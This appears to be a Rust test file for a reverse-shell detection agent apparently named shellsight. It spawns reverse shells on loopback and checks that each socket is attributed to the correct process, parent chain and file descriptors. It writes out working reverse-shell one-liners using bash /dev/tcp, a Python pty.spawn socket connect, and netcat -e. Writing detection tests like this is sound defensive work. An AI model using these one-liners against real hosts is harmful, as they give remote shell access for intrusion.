//! Real reverse shells on loopback, started under a wrapper whose argv we know (the
//! interactive shells get `--norc`: a slow ~/.bashrc, e.g. pyenv init, would stall them); the
//! agent must attribute each socket to the right pid with its parent chain, argv and
//! fds 0-2 wired to the socket.

mod agent_support;
use agent_support::*;
use shellsight::inventory::{Action, InventoryRecord, Transport};
use std::process::Command;

fn own_netns() -> u64 {
    netns_inode(std::path::Path::new("/proc/self/ns/net"))
}

/// The record of the shell end of the connection accepted on `port`.
fn shell_record(port: u16, local_port: u16, pid: i32) -> InventoryRecord {
    let ns = own_netns();
    wait_for_record(10, |r| {
        r.network.transport == Transport::Tcp
            && r.network.netns == ns
            && r.destination.port == port
            && r.source.port == local_port
            && r.destination.ip.is_loopback()
            && r.process.as_ref().is_some_and(|p| p.pid == pid)
    })
}

/// `stderr_too`: whether fd 2 is wired to the socket as well (nc.traditional -e only
/// dup2s the socket onto fds 0 and 1; fd 2 stays what the wrapper had, /dev/null here).
fn check_common(r: &InventoryRecord, wrapper: i32, wrapper_script: &str, stderr_too: bool) {
    assert_eq!(r.event.action, Action::Snapshot);
    assert_eq!(r.socket.state, "ESTABLISHED");
    let p = r.process.as_ref().unwrap();
    let std = &p.std_sockets;
    assert!(std.stdin && std.stdout, "fds 0,1 should be the socket: {std:?}");
    assert_eq!(std.stderr, stderr_too, "fd 2: {std:?}");
    assert_eq!(std.stdin_inode, Some(r.socket.inode));
    assert_eq!(std.stdout_inode, Some(r.socket.inode));
    assert_eq!(std.stderr_inode, stderr_too.then_some(r.socket.inode));
    for fd in [0, 1] {
        assert!(r.socket.fds.contains(&fd), "socket.fds {:?}", r.socket.fds);
    }
    let parent = p.parent.as_ref().expect("parent");
    assert_eq!(parent.pid, wrapper);
    assert_eq!(parent.name, "bash");
    assert_eq!(parent.command_line, format!("bash -c {wrapper_script}"));
    // Chain: wrapper, then this test process, ..., pid 1.
    let pids: Vec<i32> = p.ancestors.iter().map(|a| a.pid).collect();
    assert_eq!(pids[0], wrapper);
    assert_eq!(pids[1], std::process::id() as i32, "chain {pids:?}");
    assert_eq!(*pids.last().unwrap(), 1, "chain ends at init: {pids:?}");
    assert_eq!(p.ancestors[0].args, ["bash", "-c", wrapper_script]);
    let me = std::fs::read_to_string("/proc/self/status").unwrap();
    let uid: u32 = me
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(p.user.id, uid);
    assert!(p.start.is_some());
    assert_eq!(r.host.boot_id, std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap().trim());
}

#[test]
fn bash_dev_tcp_shell() {
    require_tool("bash", "bash");
    let (l, port) = listener();
    let script = format!("bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 & wait");
    let g = Group::spawn(Command::new("bash").args(["-c", &script]));
    let mut conn = accept_within(&l, 10);
    shell_answers(&mut conn, "echo shellsight-$((6*7))\n", "shellsight-42");
    let shell = wait_child(g.pid(), "bash", 5);
    let r = shell_record(port, conn.peer_addr().unwrap().port(), shell);
    let p = r.process.as_ref().unwrap();
    assert_eq!(p.name, "bash");
    assert_eq!(p.args, ["bash", "--norc", "-i"]);
    assert!(p.executable.as_deref().unwrap().ends_with("bash"));
    assert!(!p.exe_deleted);
    check_common(&r, g.pid(), &script, true);
}

#[test]
fn python_pty_spawn_shell() {
    require_tool("python3", "python3");
    let (l, port) = listener();
    let code = format!(
        "import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
    );
    let script = format!("python3 -c '{code}' & wait");
    let g = Group::spawn(Command::new("bash").args(["-c", &script]));
    let mut conn = accept_within(&l, 10);
    shell_answers(&mut conn, "echo shellsight-$((6*7))\n", "shellsight-42");
    // `python3` may be a wrapper (pyenv shim) that execs the interpreter: same pid.
    let py = children_of(g.pid())
        .into_iter()
        .find(|c| comm(*c).is_some_and(|n| n.starts_with("python")))
        .expect("python child of the wrapper");
    let r = shell_record(port, conn.peer_addr().unwrap().port(), py);
    let p = r.process.as_ref().unwrap();
    assert!(p.name.starts_with("python"), "name {}", p.name);
    assert_eq!(p.args.last().map(String::as_str), Some(code.as_str()));
    assert!(p.args.iter().any(|a| a == "-c"));
    check_common(&r, g.pid(), &script, true);
    // The pty child shell has a terminal, not the socket.
    let sh = wait_child(py, "sh", 5);
    let stat = std::fs::read_to_string(format!("/proc/{sh}/stat")).unwrap();
    assert_ne!(stat.rsplit_once(')').unwrap().1.split_whitespace().nth(4), Some("0"), "sh has a tty");
}

#[test]
fn netcat_traditional_exec_shell() {
    require_tool("nc.traditional", "netcat-traditional");
    let (l, port) = listener();
    let script = format!("nc.traditional -e /bin/sh 127.0.0.1 {port} & wait");
    let g = Group::spawn(Command::new("bash").args(["-c", &script]));
    let mut conn = accept_within(&l, 10);
    shell_answers(&mut conn, "echo shellsight-$((6*7))\n", "shellsight-42");
    // nc execs the shell in place (no fork): the wrapper's only child becomes `sh`.
    let sh = wait_child(g.pid(), "sh", 5);
    let r = shell_record(port, conn.peer_addr().unwrap().port(), sh);
    let p = r.process.as_ref().unwrap();
    assert_eq!(p.name, "sh");
    assert_eq!(p.args, ["sh"]);
    check_common(&r, g.pid(), &script, false);
}
